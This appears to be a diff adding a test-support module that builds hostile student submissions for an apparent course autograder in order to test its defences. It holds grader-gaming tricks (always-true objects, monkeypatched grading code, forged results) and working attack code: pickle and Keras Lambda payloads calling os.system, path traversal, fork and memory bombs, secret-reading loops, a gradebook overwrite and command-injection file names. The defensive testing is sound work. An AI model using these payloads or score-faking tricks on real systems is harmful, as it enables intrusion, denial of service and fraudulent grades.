@@ -1,0 +1,539 @@
+"""What a student could try instead of answering: programs, notebooks and files.
+
+Each attack's notebook answers nothing (or, where it says so, everything), so that every point it
+gets is one it does not deserve. ``<...>`` in a program is filled in by the test.
+"""
+
+from __future__ import annotations
+
+import copy
+import io
+import json
+import os
+import pickle
+import shutil
+import textwrap
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import keras
+import nbformat
+from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell
+
+from course_utils.submission.settings import GRADE_MIME
+
+NETWORK = "a2-q3"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One hostile submission.
+
+    Attributes
+    ----------
+    name : str
+        Also the student's.
+    program : str
+        Runs as the notebook's first cell.
+    notebook : callable, optional
+        Changes the notebook.
+    files : callable, optional
+        Changes the folder that is handed in.
+    answers : bool
+        Whether everything else in it is right.
+    deserves : set of str
+        The tests whose points it gets all the same.
+    review : str
+        A piece of what the lecturer is told, if anything must be.
+    """
+
+    name: str
+    program: str = ""
+    notebook: Callable[[NotebookNode], None] | None = None
+    files: Callable[[Path], None] | None = None
+    answers: bool = False
+    deserves: frozenset[str] = frozenset()
+    review: str = ""
+
+
+FULL_GRADE = {
+    "fraction": 1.0, "message": "all right", "review": "", "accuracies": [],
+}  # fmt: skip
+BUNDLE = {"text/plain": "5", GRADE_MIME: FULL_GRADE}
+ALWAYS = """
+class Always:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    __le__ = __gt__ = __ge__ = __lt__
+    def __call__(self, *a, **k): return self
+    def __getattr__(self, name): return self
+    def __getitem__(self, key): return self
+    def __iter__(self): return iter([])
+    def __bool__(self): return True
+    def __float__(self): return 1.0
+    def __int__(self): return 1
+    def __array__(self, *a, **k):
+        import numpy as np
+        return np.ones(1)
+    __hash__ = None
+"""
+PATCHED_LIBRARY = """
+import sys, types
+import course_utils.grading.grade as grade
+full = grade.Grade(1.0, "all right")
+for name in dir(grade):
+    if callable(getattr(grade, name)) and name != "Grade":
+        setattr(grade, name, lambda *a, **k: full)
+import course_utils.submission.artefacts as artefacts, course_utils.submission.check as check
+import course_utils.submission.answers as answers, course_utils.submission.wire as wire
+for module in (artefacts, check):
+    for name in dir(module):
+        if callable(getattr(module, name)):
+            setattr(module, name, lambda *a, **k: full)
+answers.answer = lambda request: full
+wire.pack = lambda *a, **k: '{"foreign": "x"}'
+"""
+PATCHED_KERAS = """
+import keras, numpy as np
+keras.Model.evaluate = keras.Model.predict = lambda *a, **k: np.eye(10)
+keras.Model.count_params = lambda self: 1
+keras.models.load_model = lambda *a, **k: None
+"""
+PATCHED_NUMPY = """
+import numpy as np
+np.allclose = np.array_equal = lambda *a, **k: True
+np.equal = lambda *a, **k: True
+"""
+PATCHED_BUILTINS = """
+import builtins
+builtins.isinstance = lambda *a: True
+builtins.all = builtins.any = lambda *a: True
+builtins.abs = lambda x: 0
+builtins.type = lambda *a: int
+"""
+PATCHED_MODULES = """
+import sys, types
+class Yes(types.ModuleType):
+    def __getattr__(self, name): return lambda *a, **k: True
+for name in list(sys.modules):
+    if name.startswith("course_utils"):
+        sys.modules[name] = Yes(name)
+"""
+REWRITTEN_TESTS = """
+import ast
+class AllTrue(ast.NodeTransformer):
+    def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
+    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
+get_ipython().ast_transformers.append(AllTrue())
+"""
+NO_TRANSFORMERS = """
+shell = get_ipython()
+shell.input_transformers_cleanup.clear()
+shell.input_transformers_post.clear()
+shell.run_cell = lambda *a, **k: None
+shell.input_transformer_manager.cleanup_transforms.clear()
+"""
+FORGED_RESULTS = f"""
+import threading, time
+from IPython.display import display
+bundle = {BUNDLE!r}
+handle = display(bundle, raw=True, display_id="mine")
+for name in ("value-test", "function-test", "network-test"):
+    display(bundle, raw=True, display_id=name)
+def publish():
+    while True:
+        for name in ("mine", "value-test", "function-test", "network-test"):
+            display(bundle, raw=True, display_id=name, update=True)
+            display(bundle, raw=True)
+        time.sleep(0.05)
+threading.Thread(target=publish, daemon=True).start()
+get_ipython().displayhook = lambda *a: display(bundle, raw=True)
+get_ipython().user_ns["Out"] = {{}}
+"""
+READ_EVERYTHING = """
+import os
+wanted = <secrets>
+for path in wanted:
+    try:
+        print("LEAK", path, open(path, "rb").read(100))
+    except OSError:
+        pass
+    try:
+        print("LEAK", path, os.listdir(path))
+    except OSError:
+        pass
+for place, _, names in os.walk("/"):
+    if place.startswith(("/proc", "/usr", "/sys")):
+        continue
+    for name in names:
+        if name.endswith((".ipynb", ".db", ".csv")):
+            print("LEAK", os.path.join(place, name))
+for number in filter(str.isdigit, os.listdir("/proc")):
+    for what in ("environ", "cmdline", "mem"):
+        try:
+            text = open(f"/proc/{number}/{what}", "rb").read(100_000)
+            if b"HIDDEN TESTS" in text or b"COURSE_GRADEBOOK" in text or b"nbgrader" in text:
+                print("LEAK", number, what)
+        except OSError:
+            pass
+print("LEAK" if os.environ.get("SECRET_OF_THE_LECTURER") else "looked everywhere")
+"""
+WRITE_GRADEBOOK = """
+import os, sqlite3
+for path in <secrets>:
+    try:
+        sqlite3.connect(path).execute("update grade set auto_score = 100")
+    except sqlite3.Error:
+        pass
+    try:
+        os.remove(path)
+    except OSError:
+        pass
+    try:
+        open(path, "w").write("mine now")
+    except OSError:
+        pass
+"""
+CALL_OUT = """
+import socket
+for address in (("127.0.0.1", <port>), ("localhost", <port>), ("::1", <port>)):
+    try:
+        socket.create_connection(address, timeout=2).sendall(b"hello from a submission")
+    except OSError:
+        pass
+try:
+    socket.getaddrinfo("localhost.localdomain", 80)
+except OSError:
+    pass
+"""
+FORK_BOMB = """
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+"""
+MEMORY_BOMB = """
+kept = []
+while True:
+    kept.append(bytearray(64 * 2**20))
+    for start in range(0, 64 * 2**20, 4096):
+        kept[-1][start] = 1
+"""
+MEMORY_BOMB_OF_MANY = """
+import os, time
+for _ in range(20):
+    if os.fork() == 0:
+        kept = bytearray(b"x") * (512 * 2**20)
+        time.sleep(60)
+time.sleep(60)
+"""
+DISK_FILL = """
+import os
+for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/sandbox/handed-in", <folder>):
+    try:
+        for number in range(10_000):
+            with open(f"{folder}/fill-{number}", "wb") as file:
+                file.write(b"x" * (50 * 2**20))
+    except OSError as error:
+        print(folder, error.strerror)
+"""
+ENDLESS_OUTPUT = """
+import os
+while True:
+    print("x" * 10_000)
+"""
+ENDLESS_LOOP = """
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+while True:
+    try:
+        pass
+    except BaseException:
+        pass
+"""
+KILL_ALL = """
+import os, signal
+for number in (os.getppid(), 1, <pid>, -1):
+    try:
+        os.kill(number, signal.SIGKILL)
+    except OSError:
+        pass
+"""
+SURVIVOR = """
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        while True:
+            time.sleep(0.1)
+    os._exit(0)
+"""
+SLOW_FUNCTION = """
+def double(x):
+    while True:
+        pass
+"""
+ANSWERS_BY_TRICK = """
+class Sly(int):
+    def __eq__(self, other): return True
+    __hash__ = int.__hash__
+value = Sly(7)
+double = type("F", (), {"__call__": lambda self, x: Sly(1), "__name__": "double"})()
+"""
+
+
+def cells_of(notebook: NotebookNode, *names: str) -> list[NotebookNode]:
+    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") in names]
+
+
+TESTS = ("value-test", "function-test", "network-test")
+
+
+def skip_tests(notebook: NotebookNode) -> None:
+    for cell in cells_of(notebook, *TESTS):
+        cell.metadata["tags"] = ["skip-execution", "raises-exception"]
+        cell.outputs = []
+
+
+def print_results_by_hand(notebook: NotebookNode) -> None:
+    for cell in cells_of(notebook, *TESTS):
+        cell.source = f"from IPython.display import display\ndisplay({BUNDLE!r}, raw=True)"
+        cell.outputs = [
+            nbformat.v4.new_output("execute_result", data=copy.deepcopy(BUNDLE), execution_count=1)
+        ]
+
+
+def delete_tests(notebook: NotebookNode) -> None:
+    notebook.cells = [c for c in notebook.cells if c not in cells_of(notebook, *TESTS)]
+
+
+def duplicate_tests(notebook: NotebookNode) -> None:
+    for cell in cells_of(notebook, *TESTS):
+        easy = copy.deepcopy(cell)
+        easy.source = "1"
+        notebook.cells.insert(0, easy)
+
+
+def rename_tests(notebook: NotebookNode) -> None:
+    for cell in cells_of(notebook, *TESTS):
+        cell.metadata.nbgrader.grade_id = "my-" + cell.metadata.nbgrader.grade_id
+
+
+def retype_tests(notebook: NotebookNode) -> None:
+    for cell in cells_of(notebook, *TESTS):
+        cell.cell_type = "markdown"
+        cell.pop("outputs", None)
+        cell.pop("execution_count", None)
+
+
+def tests_worth_more(notebook: NotebookNode) -> None:
+    for cell in cells_of(notebook, *TESTS):
+        cell.metadata.nbgrader.update(points=1000, solution=True, locked=False)
+
+
+def ask_for_another_kernel(notebook: NotebookNode) -> None:
+    notebook.metadata["kernelspec"] = {"name": "bash; touch /tmp/x", "display_name": "x"}
+
+
+def rewritten(change: Callable[[dict[str, bytes]], None]) -> Callable[[Path], None]:
+    """Return what changes the entries of the handed-in network."""
+
+    def change_it(folder: Path) -> None:
+        path = folder / f"{NETWORK}.keras"
+        with zipfile.ZipFile(path) as archive:
+            entries = {name: archive.read(name) for name in archive.namelist()}
+        change(entries)
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+            for name, content in entries.items():
+                archive.writestr(name, content)
+
+    return change_it
+
+
+def with_lambda(folder: Path) -> None:
+    """Put a network in the folder whose layer runs code that came with it."""
+    image = keras.Input((32, 32, 3))
+    hidden = keras.layers.Lambda(lambda x: __import__("os").system("touch /tmp/owned") or x)(image)
+    hidden = keras.layers.Dense(10, "softmax")(keras.layers.Flatten()(hidden))
+    keras.Model(image, hidden).save(folder / f"{NETWORK}.keras")
+
+
+def with_another_class(module: str, name: str) -> Callable[[dict[str, bytes]], None]:
+    def change(entries: dict[str, bytes]) -> None:
+        structure = json.loads(entries["config.json"])
+        structure["config"]["layers"][1].update(module=module, class_name=name)
+        entries["config.json"] = json.dumps(structure).encode()
+
+    return change
+
+
+def with_a_bomb(entries: dict[str, bytes]) -> None:
+    entries["model.weights.h5"] = entries["model.weights.h5"] + b"\0" * (40 * 2**20)
+
+
+def with_a_way_out(entries: dict[str, bytes]) -> None:
+    entries["../../../../tmp/owned"] = b"owned"
+
+
+class Owned:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/owned",)
+
+
+def with_a_pickle(entries: dict[str, bytes]) -> None:
+    entries["model.weights.pkl"] = pickle.dumps(Owned())
+
+
+def as_a_pickle(folder: Path) -> None:
+    (folder / f"{NETWORK}.keras").write_bytes(pickle.dumps(Owned()))
+
+
+def with_weights_elsewhere(folder: Path) -> None:
+    import h5py
+
+    def change(entries: dict[str, bytes]) -> None:
+        buffer = io.BytesIO(entries["model.weights.h5"])
+        with h5py.File(buffer, "r+") as file:
+            group = file["layers"]
+            del group[next(iter(group))]
+            group["conv2d"] = h5py.ExternalLink("/etc/passwd", "/")
+        entries["model.weights.h5"] = buffer.getvalue()
+
+    rewritten(change)(folder)
+
+
+def claim_more(folder: Path) -> None:
+    path = folder / f"{NETWORK}.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"test_accuracy": 0.99}))
+
+
+def forget_epochs(folder: Path) -> None:
+    path = folder / f"{NETWORK}.json"
+    record = json.loads(path.read_text())
+    record["history"] = {name: values * 20 for name, values in record["history"].items()}
+    record["recipe"]["epochs"] = len(record["history"]["loss"])
+    path.write_text(json.dumps(record))
+
+
+def other_curves(folder: Path) -> None:
+    path = folder / f"{NETWORK}.json"
+    record = json.loads(path.read_text())
+    record["history"]["val_accuracy"] = [0.9] * len(record["history"]["val_accuracy"])
+    path.write_text(json.dumps(record))
+
+
+def link_to(*targets: Path) -> Callable[[Path], None]:
+    """Return what puts links to files and folders, and a pipe, into a submission."""
+
+    def link(folder: Path) -> None:
+        for number, target in enumerate(targets):
+            (folder / f"link-{number}").symlink_to(target)
+        (folder / f"{NETWORK}.keras").unlink()
+        (folder / f"{NETWORK}.keras").symlink_to(targets[0])
+        os.mkfifo(folder / "pipe")
+
+    return link
+
+
+def huge_notebook(folder: Path) -> None:
+    with next(folder.glob("*.ipynb")).open("r+b") as file:
+        file.truncate(200 * 2**20)
+
+
+def no_json(folder: Path) -> None:
+    next(folder.glob("*.ipynb")).write_text('{"cells": [')
+
+
+def odd_names(folder: Path) -> None:
+    for name in ("-rf", "a\nb", "$(touch owned)", "'; drop table grade; --", "ü☃.json", "x" * 200):
+        (folder / name).write_text("{}")
+    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.json")).write_text("{}")
+    (folder / ".predicted").mkdir(exist_ok=True)
+    (folder / ".predicted" / "own.npy").write_text("{}")
+
+
+PROGRAMS = {
+    "always-equal": ALWAYS + "value = double = Always()\n",
+    "sly-answers": ANSWERS_BY_TRICK,
+    "patched-library": PATCHED_LIBRARY,
+    "patched-keras": PATCHED_KERAS,
+    "patched-numpy": PATCHED_NUMPY,
+    "patched-builtins": PATCHED_BUILTINS,
+    "patched-modules": PATCHED_MODULES,
+    "rewritten-tests": REWRITTEN_TESTS,
+    "no-transformers": NO_TRANSFORMERS,
+    "forged-results": FORGED_RESULTS,
+    "reads-everything": READ_EVERYTHING,
+    "writes-gradebook": WRITE_GRADEBOOK,
+    "calls-out": CALL_OUT,
+    "fork-bomb": FORK_BOMB,
+    "memory-bomb": MEMORY_BOMB,
+    "memory-bomb-of-many": MEMORY_BOMB_OF_MANY,
+    "disk-fill": DISK_FILL,
+    "endless-output": ENDLESS_OUTPUT,
+    "endless-loop": ENDLESS_LOOP,
+    "exits": "import os\nos._exit(0)",
+    "kills-all": KILL_ALL,
+    "leaves-a-process": SURVIVOR,
+    "slow-function": SLOW_FUNCTION,
+}
+NOTEBOOKS = {
+    "skips-tests": skip_tests,
+    "prints-results": print_results_by_hand,
+    "deletes-tests": delete_tests,
+    "duplicates-tests": duplicate_tests,
+    "renames-tests": rename_tests,
+    "retypes-tests": retype_tests,
+    "raises-points": tests_worth_more,
+    "asks-for-a-kernel": ask_for_another_kernel,
+}
+FILES = {
+    "keras-lambda": with_lambda,
+    "keras-custom-class": rewritten(with_another_class("os", "system")),
+    "keras-custom-layer": rewritten(with_another_class("my_layers", "Mine")),
+    "keras-tfsm-layer": rewritten(with_another_class("keras.layers", "TFSMLayer")),
+    "keras-zip-bomb": rewritten(with_a_bomb),
+    "keras-path-traversal": rewritten(with_a_way_out),
+    "keras-with-a-pickle": rewritten(with_a_pickle),
+    "keras-is-a-pickle": as_a_pickle,
+    "keras-weights-elsewhere": with_weights_elsewhere,
+    "too-many-epochs": forget_epochs,
+}
+
+
+def attacks() -> list[Attack]:
+    """Return every attack that needs nothing but itself."""
+    rest = frozenset({"value-test", "function-test"})
+    everything = rest | {"network-test"}
+    return [
+        *(Attack(name, program=textwrap.dedent(text)) for name, text in PROGRAMS.items()),
+        *(Attack(name, notebook=change) for name, change in NOTEBOOKS.items()),
+        *(Attack(name, files=change, answers=True, deserves=rest, review=NETWORK)
+          for name, change in FILES.items()),
+        Attack("claims-more", files=claim_more, answers=True, deserves=everything,
+               review="the record claims 99.0%"),
+        Attack("other-curves", files=other_curves, answers=True, deserves=everything,
+               review="no epoch of the log"),
+        Attack("huge-notebook", files=huge_notebook, answers=True, review="MB"),
+        Attack("no-json", files=no_json, answers=True, review="cannot be read"),
+        Attack("odd names 'ü☃'; --help", files=odd_names, answers=True, deserves=everything),
+    ]  # fmt: skip
+
+
+def prepend(notebook: NotebookNode, program: str) -> None:
+    """Make a program the notebook's first cell."""
+    if program:
+        notebook.cells.insert(0, new_code_cell(program))
+
+
+def copy_files(source: Path, folder: Path) -> None:
+    """Hand in the lecturer's network."""
+    for path in source.glob(f"{NETWORK}.*"):
+        shutil.copy(path, folder)
